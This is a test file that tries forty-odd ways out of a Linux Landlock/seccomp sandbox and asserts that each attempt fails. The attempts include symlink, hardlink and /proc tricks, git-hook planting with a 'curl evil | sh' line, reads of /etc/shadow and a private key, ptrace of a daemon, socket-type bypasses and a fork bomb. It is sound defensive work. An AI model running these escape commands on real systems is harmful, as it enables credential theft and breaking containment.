/**
 * The escape suite: each test tries one way out of the sandbox and asserts it stayed in.
 * Runs as root on the CI machine, so every containment here holds without file permissions.
 */
import { type ChildProcess, spawn } from "node:child_process";
import {
  chmodSync,
  closeSync,
  copyFileSync,
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  compileRules,
  launcherArgs,
  probeSandbox,
  runSandboxed,
  type SandboxPolicy,
} from "../../src/sandbox/index.js";

const PY = "/usr/bin/python3";
const probe = probeSandbox();
const linuxSandbox = probe.available && probe.mechanism === "landlock";

let root: string;
let ws: string;
let out: string;
let keyDir: string;
let realHome: string;
let tcp: Server;
let tcpPort: number;
let tcpConnections = 0;
let ostkSock: Server;
let sockConnections = 0;
let daemon: ChildProcess;

/** Which way protected paths are kept read-only: bind mounts in a private mount namespace, or Landlock splits. */
let mode: "auto" | "never" = "auto";
function sb(command: string, policy: SandboxPolicy = {}, timeoutMs = 15_000) {
  return runSandboxed({
    workspace: ws,
    command,
    policy: { secretPaths: [keyDir], mountNamespace: mode, ...policy },
    timeoutMs,
  });
}
const py = (code: string) => `${PY} -c '${code.replace(/'/g, `'"'"'`)}'`;
const read = (p: string) => readFileSync(p, "utf8");
const alive = (pid: number) => {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
};
/** Processes whose command line contains `marker` (outside the sandbox's view). */
function processesWith(marker: string): number[] {
  const found: number[] = [];
  for (const name of readdirSync("/proc")) {
    if (!/^\d+$/.test(name)) continue;
    try {
      if (readFileSync(`/proc/${name}/cmdline`, "utf8").includes(marker)) found.push(Number(name));
    } catch {}
  }
  return found;
}

beforeAll(async () => {
  root = realpathSync(mkdtempSync(join(tmpdir(), "ostk-escape-")));
  ws = join(root, "ws");
  out = join(root, "outside");
  keyDir = join(root, "keys");
  realHome = join(root, "home");
  for (const d of [
    ws,
    out,
    keyDir,
    realHome,
    join(ws, ".ostk"),
    join(ws, ".git/hooks"),
    join(ws, "src"),
    join(ws, "work"),
  ]) {
    mkdirSync(d, { recursive: true });
  }
  writeFileSync(join(out, "target.txt"), "outside-original");
  writeFileSync(join(out, "hl-target.txt"), "hardlink-original");
  writeFileSync(join(keyDir, "ed25519.key"), "PRIVATE-KEY-MATERIAL");
  writeFileSync(join(realHome, ".bashrc"), "# rc\n");
  writeFileSync(join(ws, ".ostk/journal.jsonl"), "journal-original\n");
  writeFileSync(join(ws, ".git/config"), "[core]\n");
  writeFileSync(join(ws, ".bashrc"), "# ws rc\n");
  writeFileSync(join(ws, "src/a.txt"), "a");
  symlinkSync(out, join(ws, "src/link-dir"));
  symlinkSync(join(out, "target.txt"), join(ws, "src/link-file"));
  linkSync(join(out, "hl-target.txt"), join(ws, "src/hl"));
  chmodSync(join(out, "target.txt"), 0o600);

  tcp = createServer((s) => {
    tcpConnections++;
    s.end("hello");
  });
  await new Promise<void>((r) => tcp.listen(0, "127.0.0.1", r));
  tcpPort = (tcp.address() as { port: number }).port;
  ostkSock = createServer((s) => {
    sockConnections++;
    s.end("{}");
  });
  await new Promise<void>((r) => ostkSock.listen(join(ws, ".ostk/ostk.sock"), r));
  daemon = spawn(process.execPath, ["-e", "setInterval(() => {}, 1000)"], {
    env: { OSTK_DAEMON_SECRET: "daemon-secret-value" },
    stdio: "ignore",
  });
  await new Promise((r) => setTimeout(r, 100));
});

afterAll(async () => {
  daemon?.kill("SIGKILL");
  await new Promise<void>((r) => (tcp ? tcp.close(() => r()) : r()));
  await new Promise<void>((r) => (ostkSock ? ostkSock.close(() => r()) : r()));
  if (root) rmSync(root, { recursive: true, force: true });
});

const MODES = [
  ["mount namespace + Landlock + seccomp", "auto"],
  ["Landlock + seccomp only", "never"],
] as const;

describe.skipIf(!linuxSandbox).each(MODES)("sandbox escape suite: filesystem (%s)", (_name, m) => {
  beforeAll(() => {
    mode = m;
  });

  it("reports Landlock and the protections it applies", () => {
    expect(probe.landlockAbi).toBeGreaterThanOrEqual(1);
    expect(probe.protections).toContain("landlock.fs");
    expect(probe.protections).toContain("seccomp");
    expect(probe.protections).toContain("no_new_privs");
  });

  it("runs an ordinary command and can write the workspace", async () => {
    const r = await sb(
      "echo hi && echo built > work/out.txt && mkdir -p work/build/x && echo o > work/build/x/o && cat src/a.txt",
    );
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toBe("hi\na");
    expect(read(join(ws, "work/out.txt"))).toBe("built\n");
    expect(read(join(ws, "work/build/x/o"))).toBe("o\n");
    if (m === "auto" && probe.mountNamespace) {
      // with bind mounts, new entries can be created at the top level of the workspace too
      const top = await sb(
        "echo top > top-level.txt && mkdir -p dist && echo d > dist/d && rm top-level.txt && echo ok",
      );
      expect(top.stdout).toBe("ok\n");
      expect(read(join(ws, "dist/d"))).toBe("d\n");
      rmSync(join(ws, "dist"), { recursive: true });
    }
  });

  // --- paths ---
  it("1 `..` cannot write outside the workspace", async () => {
    await sb("echo x > ../outside/dotdot.txt; echo x > src/../../outside/dotdot2.txt");
    expect(existsSync(join(out, "dotdot.txt"))).toBe(false);
    expect(existsSync(join(out, "dotdot2.txt"))).toBe(false);
  });

  it("2 an absolute path outside cannot be written", async () => {
    await sb(`echo x > ${out}/abs.txt; echo x >> ${out}/target.txt`);
    expect(existsSync(join(out, "abs.txt"))).toBe(false);
    expect(read(join(out, "target.txt"))).toBe("outside-original");
  });

  it("3 a file outside cannot be read", async () => {
    const r = await sb(`cat ${out}/target.txt`);
    expect(r.stdout).not.toContain("outside-original");
    expect(r.exitCode).not.toBe(0);
  });

  it("4 a pre-planted symlink to an outside directory cannot be written through", async () => {
    await sb("echo x > src/link-dir/via-link.txt");
    expect(existsSync(join(out, "via-link.txt"))).toBe(false);
  });

  it("5 a pre-planted symlink to an outside file can be neither written nor read", async () => {
    const r = await sb("cat src/link-file; echo pwned > src/link-file");
    expect(r.stdout).not.toContain("outside-original");
    expect(read(join(out, "target.txt"))).toBe("outside-original");
  });

  it("6 a newly created symlink does not lead out", async () => {
    await sb(
      `ln -s ${out} src/new-link && echo x > src/new-link/new.txt; ln -sf ${out}/target.txt src/nl && echo y > src/nl`,
    );
    expect(existsSync(join(out, "new.txt"))).toBe(false);
    expect(read(join(out, "target.txt"))).toBe("outside-original");
  });

  it("7 a hard link to an outside file cannot be created (hard link out)", async () => {
    const r = await sb(`ln ${out}/target.txt src/stolen && echo linked`);
    expect(r.stdout).not.toContain("linked");
    expect(existsSync(join(ws, "src/stolen"))).toBe(false);
  });

  it("8 a pre-planted hard link inside cannot change the outside file (hard link in)", async () => {
    await sb("echo pwned > src/hl; echo more >> src/hl; truncate -s 0 src/hl");
    expect(read(join(out, "hl-target.txt"))).toBe("hardlink-original");
  });

  it("9 rename across the boundary fails both ways", async () => {
    writeFileSync(join(ws, "src/move-me.txt"), "m");
    await sb(`mv src/move-me.txt ${out}/moved.txt; mv ${out}/target.txt src/taken.txt`);
    expect(existsSync(join(out, "moved.txt"))).toBe(false);
    expect(existsSync(join(ws, "src/move-me.txt"))).toBe(true);
    expect(existsSync(join(out, "target.txt"))).toBe(true);
    expect(existsSync(join(ws, "src/taken.txt"))).toBe(false);
  });

  it("10 /proc/self/root does not bypass the rules", async () => {
    await sb(`echo x > /proc/self/root${out}/proc-root.txt; cat /proc/self/root${keyDir}/ed25519.key`);
    expect(existsSync(join(out, "proc-root.txt"))).toBe(false);
  });

  it("11 an fd inherited from the caller is closed before the command runs", async () => {
    const fd = openSync(join(out, "inherited.txt"), "w");
    try {
      const rules = compileRules({ workspace: ws, policy: { secretPaths: [keyDir] } });
      const args = launcherArgs(rules, { cwd: ws, env: { PATH: "/usr/bin:/bin" } });
      const child = spawn(
        probe.launcherPath!,
        [...args, "--", "/bin/sh", "-c", "echo pwned >&3; echo pwned >&4"],
        {
          stdio: ["ignore", "pipe", "pipe", fd, fd],
        },
      );
      await new Promise((r) => child.on("close", r));
    } finally {
      closeSync(fd);
    }
    expect(read(join(out, "inherited.txt"))).toBe("");
  });

  it("12 an fd of another process cannot be reopened through /proc/<pid>/fd", async () => {
    const fd = openSync(join(out, "reopen.txt"), "w");
    try {
      await sb(`echo pwned > /proc/${process.pid}/fd/${fd}; echo pwned > /proc/${daemon.pid}/fd/1`);
    } finally {
      closeSync(fd);
    }
    expect(read(join(out, "reopen.txt"))).toBe("");
  });

  it("13 truncate outside and of governance files fails", async () => {
    await sb(`truncate -s 0 ${out}/target.txt; truncate -s 0 .ostk/journal.jsonl; : > .ostk/journal.jsonl`);
    expect(read(join(out, "target.txt"))).toBe("outside-original");
    expect(read(join(ws, ".ostk/journal.jsonl"))).toBe("journal-original\n");
  });

  it("14 chmod and chown outside change nothing", async () => {
    await sb(`chmod 777 ${out}/target.txt; chown 1234:1234 ${out}/target.txt; chmod 777 .ostk/journal.jsonl`);
    const st = statSync(join(out, "target.txt"));
    expect(st.mode & 0o777).toBe(0o600);
    expect(st.uid).toBe(process.getuid!());
    expect(statSync(join(ws, ".ostk/journal.jsonl")).mode & 0o777).not.toBe(0o777);
  });

  it("15 utime outside changes nothing", async () => {
    const before = statSync(join(out, "target.txt")).mtimeMs;
    await sb(
      `touch -d 2001-01-01 ${out}/target.txt; touch ${out}/target.txt; touch -d 2001-01-01 .ostk/journal.jsonl`,
    );
    expect(statSync(join(out, "target.txt")).mtimeMs).toBe(before);
    expect(statSync(join(ws, ".ostk/journal.jsonl")).mtimeMs).toBeGreaterThan(Date.parse("2002-01-01"));
  });

  it("16 .ostk/ cannot be written, created in or deleted from", async () => {
    await sb(
      "echo x > .ostk/new; mkdir .ostk/pins; rm -f .ostk/journal.jsonl; mv .ostk .ostk-gone; rm -rf .ostk",
    );
    expect(existsSync(join(ws, ".ostk/new"))).toBe(false);
    expect(existsSync(join(ws, ".ostk/pins"))).toBe(false);
    expect(read(join(ws, ".ostk/journal.jsonl"))).toBe("journal-original\n");
  });

  it("17 .git/hooks and .git/config cannot be written", async () => {
    await sb("echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config");
    expect(existsSync(join(ws, ".git/hooks/pre-commit"))).toBe(false);
    expect(read(join(ws, ".git/config"))).toBe("[core]\n");
  });

  it("17b .git cannot be swapped for an impostor repository carrying hooks", async () => {
    await sb(
      "mv .git .git-old; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; cp -r .git-old/. .git/ 2>/dev/null; rm -rf .git-old",
    );
    expect(existsSync(join(ws, ".git/hooks/pre-commit"))).toBe(false);
    expect(read(join(ws, ".git/config"))).toBe("[core]\n");
    expect(existsSync(join(ws, ".git-old"))).toBe(false);
  });

  it("17c git's redirections (commondir, config.worktree, submodule and worktree git dirs) cannot be planted", async () => {
    const r = await sb(
      "mkdir -p ../evil/hooks; echo ../evil > .git/commondir; echo '[core] hooksPath = /tmp' > .git/config.worktree; mkdir -p .git/modules/sub/hooks && echo evil > .git/modules/sub/hooks/post-checkout; true",
    );
    expect(existsSync(join(ws, ".git/commondir"))).toBe(false);
    expect(existsSync(join(ws, ".git/config.worktree"))).toBe(false);
    expect(existsSync(join(ws, ".git/modules/sub/hooks/post-checkout"))).toBe(false);
    expect(r.exitCode).toBe(0);
  });

  it("18 shell rc files in the workspace and the real home stay unchanged", async () => {
    const r = await sb(
      `echo evil >> .bashrc; echo evil >> ${realHome}/.bashrc; echo evil >> ~/.bashrc; echo $HOME`,
    );
    expect(read(join(ws, ".bashrc"))).toBe("# ws rc\n");
    expect(read(join(realHome, ".bashrc"))).toBe("# rc\n");
    expect(r.stdout.trim()).not.toBe(realHome); // HOME is a private per-call directory
  });

  it("19 the signing key cannot be read, even when its parent is made readable", async () => {
    const r = await sb(
      `cat ${keyDir}/ed25519.key; cp ${keyDir}/ed25519.key work/k; cat work/k; cat ${out}/target.txt`,
      {
        readable: [root],
      },
    );
    expect(r.stdout).not.toContain("PRIVATE-KEY-MATERIAL");
    expect(r.stdout).toContain("outside-original"); // the readable grant is real; only the key is carved out
  });

  it("19b the signing-key directory is hidden by default, even when the policy forgets it", async () => {
    const saved = process.env.OSTK_KEY_DIR;
    process.env.OSTK_KEY_DIR = keyDir;
    try {
      const r = await runSandboxed({
        workspace: ws,
        command: `cat ${keyDir}/ed25519.key; cat ${out}/target.txt`,
        policy: { readable: [root], mountNamespace: mode },
      });
      expect(r.stdout).not.toContain("PRIVATE-KEY-MATERIAL");
      expect(r.stdout).toContain("outside-original");
    } finally {
      if (saved === undefined) delete process.env.OSTK_KEY_DIR;
      else process.env.OSTK_KEY_DIR = saved;
    }
  });

  it("20 /etc/shadow stays unreadable while /etc/passwd is readable", async () => {
    const r = await sb("cat /etc/passwd | head -1; cat /etc/shadow");
    expect(r.stdout).toContain("root:");
    expect(r.stdout).not.toMatch(/root:[^:]*:\d+:\d+:\d*:/); // a shadow line
  });

  it("21 the global /tmp is not writable (only the private TMPDIR)", async () => {
    const marker = `ostk-escape-${process.pid}`;
    const r = await sb(`echo x > /tmp/${marker}; echo y > "$TMPDIR/ok" && echo private-ok`);
    expect(existsSync(join("/tmp", marker))).toBe(false);
    expect(r.stdout).toContain("private-ok");
  });
});

describe.skipIf(!linuxSandbox)("sandbox escape suite: network and processes", () => {
  beforeAll(() => {
    mode = "auto";
  });

  // --- network ---
  it("22 TCP to 127.0.0.1 is refused with network none", async () => {
    const before = tcpConnections;
    const r = await sb(
      py(
        `import socket\ntry:\n  s=socket.socket(); s.connect(("127.0.0.1",${tcpPort})); print("connected")\nexcept OSError as e: print("blocked", e.errno)`,
      ),
    );
    expect(r.stdout).toContain("blocked");
    expect(tcpConnections).toBe(before);
  });

  it("23 with one allowed port, other ports and other addresses' other ports are refused", async () => {
    const before = tcpConnections;
    const allowed = tcpPort === 65535 ? 65534 : tcpPort + 1;
    const r = await sb(
      py(
        `import socket\nfor host,port in (("127.0.0.1",${tcpPort}),("192.0.2.1",${tcpPort}),("10.255.255.1",80)):\n  s=socket.socket(); s.settimeout(1)\n  try:\n    s.connect((host,port)); print("connected",host)\n  except PermissionError as e: print("blocked",host)\n  except OSError as e: print("other",host,e)`,
      ),
      { network: { connect: [allowed] } },
    );
    expect(r.stdout.match(/blocked/g)?.length).toBe(3);
    expect(tcpConnections).toBe(before);
  });

  it("23b TCP Fast Open (sendto MSG_FASTOPEN, which skips Landlock's connect check) cannot reach a denied port", async () => {
    const before = tcpConnections;
    const r = await sb(
      py(
        `import socket\ntry:\n  s=socket.socket(); s.sendto(b"x", socket.MSG_FASTOPEN, ("127.0.0.1",${tcpPort})); print("connected")\nexcept OSError as e: print("blocked",e.errno)`,
      ),
      { network: { connect: [tcpPort === 65535 ? 65534 : tcpPort + 1] } },
    );
    expect(r.stdout).toContain("blocked 13");
    await new Promise((res) => setTimeout(res, 50));
    expect(tcpConnections).toBe(before);
  });

  it("23c an allowed address:port is reachable, while an outside address on that same port is refused", async () => {
    const before = tcpConnections;
    const r = await sb(
      py(
        `import socket\nfor host in ("127.0.0.1","127.0.0.2","192.0.2.1"):\n  s=socket.socket(); s.settimeout(2)\n  try:\n    s.connect((host,${tcpPort})); print("connected",host,s.recv(5).decode())\n  except OSError as e: print("blocked",host,e.errno)`,
      ),
      { network: { connect: [`127.0.0.1:${tcpPort}`] } },
    );
    expect(r.stdout).toContain("connected 127.0.0.1 hello");
    expect(r.stdout).toContain("blocked 127.0.0.2 13");
    expect(r.stdout).toContain("blocked 192.0.2.1 13");
    expect(tcpConnections).toBe(before + 1);
  });

  it("24 an allowed port is reachable (the rule is real, not a blanket deny)", async () => {
    const before = tcpConnections;
    const r = await sb(
      py(`import socket\ns=socket.create_connection(("127.0.0.1",${tcpPort}))\nprint(s.recv(10).decode())`),
      { network: { connect: [tcpPort] } },
    );
    expect(r.stdout).toContain("hello");
    expect(tcpConnections).toBe(before + 1);
  });

  it("25 UDP sockets cannot be created, even with TCP ports allowed", async () => {
    const r = await sb(
      py(
        `import socket\ntry:\n  s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b"x",("127.0.0.1",53)); print("sent")\nexcept OSError as e: print("blocked",e.errno)`,
      ),
      { network: { connect: [53] } },
    );
    expect(r.stdout).toContain("blocked 13");
  });

  it("26 MPTCP sockets cannot be created (Landlock does not see them)", async () => {
    const r = await sb(
      py(
        `import socket\ntry:\n  s=socket.socket(socket.AF_INET,socket.SOCK_STREAM,262); s.connect(("127.0.0.1",${tcpPort})); print("connected")\nexcept OSError as e: print("blocked",e.errno)`,
      ),
      { network: { connect: [tcpPort + 1] } },
    );
    expect(r.stdout).toContain("blocked 13");
  });

  it("27 raw, packet and netlink sockets cannot be created", async () => {
    const r = await sb(
      py(
        `import socket\nfor args in ((socket.AF_INET,socket.SOCK_RAW,1),(socket.AF_PACKET,socket.SOCK_RAW,0),(socket.AF_NETLINK,socket.SOCK_RAW,0),(socket.AF_INET6,socket.SOCK_DGRAM,0)):\n  try:\n    socket.socket(*args); print("created")\n  except OSError as e: print("blocked",e.errno)`,
      ),
    );
    expect(r.stdout).not.toContain("created");
    expect(r.stdout.match(/blocked/g)?.length).toBe(4);
  });

  it("27b nothing can listen for connections: not with network none, nor via listen() autobind with a port allowed", async () => {
    const code = py(
      `import socket\ntry:\n  s=socket.socket(); s.listen(1); print("listening", s.getsockname()[1])\nexcept OSError as e: print("blocked", e.errno)`,
    );
    const none = await sb(code);
    expect(none.stdout).toContain("blocked 13");
    const ports = await sb(code, { network: { connect: [tcpPort] } });
    expect(ports.stdout).toContain("blocked 13");
  });

  it("28 the kernel's ostk.sock (a pathname unix socket) cannot be connected", async () => {
    const before = sockConnections;
    const r = await sb(
      py(
        `import socket\ntry:\n  s=socket.socket(socket.AF_UNIX); s.connect(".ostk/ostk.sock"); print("connected")\nexcept OSError as e: print("blocked",e.errno)`,
      ),
    );
    expect(r.stdout).toContain("blocked");
    expect(sockConnections).toBe(before);
  });

  it("28b with unix sockets allowed, ostk.sock is still unreachable where mount namespaces work", async () => {
    if (mode !== "auto" || !probe.mountNamespace) return; // split mode: documented gap below Landlock ABI 9
    const before = sockConnections;
    const r = await sb(
      py(
        `import socket\ntry:\n  s=socket.socket(socket.AF_UNIX); s.connect(".ostk/ostk.sock"); print("connected")\nexcept OSError as e: print("blocked",e.errno)`,
      ),
      { allowUnixSockets: true },
    );
    expect(r.stdout).toContain("blocked");
    expect(sockConnections).toBe(before);
  });

  it("29 an abstract unix socket outside the sandbox cannot be reached even when unix sockets are allowed", async () => {
    const name = `ostk-escape-${process.pid}`;
    let hits = 0;
    const srv = createServer((s) => {
      hits++;
      s.end();
    });
    await new Promise<void>((r) => srv.listen(`\0${name}`, r));
    try {
      const r = await sb(
        py(
          `import socket\ntry:\n  s=socket.socket(socket.AF_UNIX); s.connect("\\0${name}"); print("connected")\nexcept OSError as e: print("blocked",e.errno)`,
        ),
        { allowUnixSockets: true },
      );
      expect(r.stdout).toContain("blocked");
      expect(hits).toBe(0);
    } finally {
      await new Promise<void>((r) => srv.close(() => r()));
    }
  });

  // --- processes ---
  it("30 the daemon cannot be ptraced, nor its environment read", async () => {
    const r = await sb(
      `${py(`import ctypes\nlibc=ctypes.CDLL(None,use_errno=True)\nprint("ptrace", libc.ptrace(16, ${daemon.pid}, 0, 0), ctypes.get_errno())`)}; cat /proc/${daemon.pid}/environ; cat /proc/${daemon.pid}/mem`,
    );
    expect(r.stdout).toContain("ptrace -1 1");
    expect(r.stdout).not.toContain("daemon-secret-value");
    expect(readFileSync(`/proc/${daemon.pid}/stat`, "utf8").split(" ")[2]).not.toBe("t");
  });

  it("31 the daemon and the launcher cannot be signalled", async () => {
    const r = await sb(
      `kill -9 ${daemon.pid}; echo daemon=$?; kill -9 $PPID; echo parent=$?; kill -9 -1; echo all=$?`,
    );
    expect(alive(daemon.pid!)).toBe(true);
    expect(r.stdout).toContain("daemon=1");
  });

  it("32 a setuid-root binary grants no privilege (no_new_privs, capabilities dropped)", async () => {
    const suid = join(ws, "src/suid-python");
    copyFileSync(realpathSync(PY), suid);
    chmodSync(suid, 0o4755);
    const r = await sb(
      `${suid} -c 'import os; print("eff", [l for l in open("/proc/self/status") if l.startswith(("CapEff","NoNewPrivs"))])'; grep -E 'CapEff|NoNewPrivs|Seccomp:' /proc/self/status`,
    );
    expect(r.stdout).toMatch(/CapEff:\s+0000000000000000/);
    expect(r.stdout).toMatch(/NoNewPrivs:\s+1/);
    expect(r.stdout).toMatch(/Seccomp:\s+2/);
    expect(r.stdout).not.toMatch(/CapEff:\\t0*[1-9a-f]/);
  });

  it("33 secrets in the caller's environment never reach the command", async () => {
    process.env.OSTK_TEST_API_TOKEN = "tok-should-not-leak";
    process.env.ANTHROPIC_API_KEY = "sk-ant-should-not-leak-0123456789";
    try {
      const r = await sb("env", { envAllow: ["OSTK_TEST_API_TOKEN", "ANTHROPIC_API_KEY"] });
      expect(r.stdout).toContain("PATH=");
      expect(r.stdout).not.toContain("should-not-leak");
    } finally {
      delete process.env.OSTK_TEST_API_TOKEN;
      delete process.env.ANTHROPIC_API_KEY;
    }
  });

  it("34 dangerous syscalls are refused (mount, unshare, io_uring, bpf, keyctl, perf, process_vm)", async () => {
    const r = await sb(
      `${py(
        `import ctypes,os\nlibc=ctypes.CDLL(None,use_errno=True)\nfor name,nr in (("io_uring_setup",425),("bpf",321),("keyctl",250),("perf_event_open",298),("process_vm_readv",310),("unshare",272),("mount",165)):\n  ctypes.set_errno(0); rc=libc.syscall(nr,0,0,0,0,0); print(name,rc,ctypes.get_errno())`,
      )}; unshare -r id; mount -t tmpfs none src`,
    );
    for (const name of [
      "io_uring_setup",
      "bpf",
      "keyctl",
      "perf_event_open",
      "process_vm_readv",
      "unshare",
      "mount",
    ]) {
      expect(r.stdout).toMatch(new RegExp(`${name} -1 (1|38)\\b`));
    }
    expect(r.stdout).not.toContain("uid=0(root) gid=0(root) groups=");
  });

  it("35 a fork bomb is contained by the process limit and cleaned up", async () => {
    const marker = `bomb${process.pid}x`;
    const r = await sb(
      `exec /bin/sh -c 'f(){ f | f & }; f; sleep 2' ${marker}`,
      { limits: { processes: 64 } },
      8_000,
    );
    expect(r.durationMs).toBeLessThan(8_000 + 3_000);
    await new Promise((res) => setTimeout(res, 200));
    expect(processesWith(marker)).toEqual([]);
  });

  it("36 a disk-filling write stops at the file size limit", async () => {
    const r = await sb("head -c 50000000 /dev/zero > work/big.bin", {
      limits: { fileSizeBytes: 1024 * 1024 },
    });
    expect(statSync(join(ws, "work/big.bin")).size).toBe(1024 * 1024);
    expect(r.exitCode).not.toBe(0);
    rmSync(join(ws, "work/big.bin"));
  });

  it("37 a background process does not outlive its call (even after setsid / nohup)", async () => {
    const m = `${(process.pid % 1000) + 3000}`;
    const r = await sb(
      `sleep ${m}.1 & setsid sleep ${m}.2 & nohup sleep ${m}.3 >/dev/null 2>&1 & (sleep ${m}.4 &) ; echo started`,
    );
    expect(r.stdout).toContain("started");
    await new Promise((res) => setTimeout(res, 100));
    expect(processesWith(`sleep ${m}.`)).toEqual([]);
  });

  it("38 on timeout the whole tree is killed, including setsid'd descendants", async () => {
    const m = `${(process.pid % 1000) + 5000}`;
    const r = await sb(`setsid sleep ${m}.1 & sleep ${m}.2`, {}, 500);
    expect(r.timedOut).toBe(true);
    expect(r.exitCode).toBeNull();
    await new Promise((res) => setTimeout(res, 100));
    expect(processesWith(`sleep ${m}.`)).toEqual([]);
  });

  it("39 cancelling the call kills everything it started", async () => {
    const m = `${(process.pid % 1000) + 7000}`;
    const ac = new AbortController();
    const p = runSandboxed({
      workspace: ws,
      command: `setsid sleep ${m}.1 & sleep ${m}.2`,
      signal: ac.signal,
    });
    setTimeout(() => ac.abort(), 300);
    const r = await p;
    expect(r.cancelled).toBe(true);
    await new Promise((res) => setTimeout(res, 100));
    expect(processesWith(`sleep ${m}.`)).toEqual([]);
  });

  it("40 output beyond the cap is cut and flagged", async () => {
    const r = await runSandboxed({
      workspace: ws,
      command: "head -c 100000 /dev/zero | tr '\\0' a",
      maxOutputBytes: 1000,
    });
    expect(r.stdout.length).toBe(1000);
    expect(r.truncated).toBe(true);
  });
});
